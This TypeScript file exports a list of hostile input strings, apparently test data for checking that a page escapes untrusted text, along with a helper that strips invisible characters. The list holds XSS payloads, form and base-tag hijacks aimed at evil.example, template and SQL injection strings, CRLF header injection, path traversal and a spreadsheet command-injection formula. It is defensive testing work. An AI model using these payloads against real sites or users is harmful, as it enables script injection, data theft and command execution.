const LONG = 'W'.repeat(4_000)

/** What strangers may write in the hope that a page takes it for more than words. */
export const HOSTILE_WORDS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="data:text/html,x">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=x>',
  '</form><form action="https://evil.example/">',
  '<button formaction="https://evil.example/">x</button>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</pre><script>alert(1)</script>',
  '</main></body></html><script>alert(1)</script>',
  '<!--',
  '--><script>alert(1)</script><!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus x='",
  '" style="position:fixed;inset:0" x="',
  '` onclick=`alert(1)',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&quot;&gt;&lt;b&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{%raw%}{{7*7}}',
  '[[${7*7}]]',
  'a\u0000b<script\u0000>alert(1)</script>',
  '\u202Egpj.exe',
  'a\u202Db\u202Ec\u2066d\u2067e\u2068f',
  '\u200Fright \u061Cto\u200E left',
  'zero\u200Bwidth\u200Dand\uFEFFmarks',
  '\u2028<script>alert(1)</script>\u2029',
  'line\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>',
  '\u001b[31mred\u001b[0m\u0007',
  'Z̴̡̛͙͎͓̬͐̎a̷̢͔͌̐l̶͈̏g̵̡̤̏o̴͕̔',
  '𝕳𝖔𝖘𝖙 👩‍👩‍👧‍👦 مضيف 主机',
  '../../../etc/passwd',
  'C:\\Windows\\System32',
  "Robert'); DROP TABLE hosts;--",
  '=cmd|"/c calc"!A1',
  LONG,
  `${LONG}<b>`,
]

/** What pages show of what cannot be seen. */
const SHOWN_CODE = /\[U\+[\dA-F]{4,6}\]/g
const UNREADABLE = /[\p{C}\p{Z}\p{M}]/gu

/** The words as whoever reads can tell them, in the record and on a page: by their letters alone. */
export function readable(text: string): string {
  return text.replace(SHOWN_CODE, '').replace(UNREADABLE, '').replaceAll('\uFFFD', '')
}
